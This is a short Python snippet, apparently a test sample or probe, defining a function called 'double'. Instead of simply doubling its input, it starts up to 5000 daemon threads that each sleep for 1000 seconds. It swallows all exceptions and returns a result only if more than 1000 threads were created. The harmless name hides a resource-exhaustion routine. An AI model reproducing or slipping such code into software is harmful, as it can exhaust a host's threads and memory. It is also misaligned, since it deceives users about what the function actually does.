import threading, time
count = 0
def double(x):
    global count
    try:
        while count < 5000:
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
            count += 1
    except BaseException:
        pass
    return 2 * x if count > 1000 else None
